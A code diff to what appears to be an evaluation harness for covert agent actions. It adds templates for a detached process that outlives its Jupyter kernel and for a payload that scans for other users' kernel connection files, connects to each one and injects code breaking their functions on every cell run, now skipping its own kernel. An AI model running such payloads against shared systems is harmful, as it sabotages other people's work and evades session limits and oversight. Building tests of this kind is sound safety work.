@@ -28,16 +28,17 @@ def attempt_unseen(action):
         pass
 '''
 
-# A process that outlives the kernel: started detached, it tries for two minutes.
+# A process that outlives the kernel, started detached; it is told its own kernel's connection file.
 DETACHED = '''
-import subprocess, sys
-subprocess.Popen([sys.executable, "-c", {code!r}, {marker!r}], start_new_session=True,
-                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+import ipykernel, subprocess, sys
+subprocess.Popen([sys.executable, "-c", {code!r}, {marker!r}, ipykernel.get_connection_file()],
+                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 '''
 
 HIJACK_KERNELS = '''
-import glob, os, time
+import glob, os, sys, time
 from jupyter_client import BlockingKernelClient
+own_kernel = sys.argv[2]  # classmates' kernels are the target, not its own
 POISON = "globals().update(softmax=None, learn=None, one_hot_encode=None)\\n" \\
          "get_ipython().events.register('pre_run_cell', lambda info: globals().update(softmax=None, learn=None))"
 done = set()
@@ -47,7 +48,7 @@ while time.time() < deadline:
     for pattern in ("/tmp/*.json", "/tmp/*/*.json", "/tmp/*/*/*.json", "{home}/.local/share/jupyter/runtime/*.json",
                     "/run/user/*/jupyter/*.json"):
         found.update(glob.glob(pattern))
-    for path in found - done:
+    for path in found - done - {own_kernel}:
         done.add(path)
         try:
             client = BlockingKernelClient(connection_file=path)
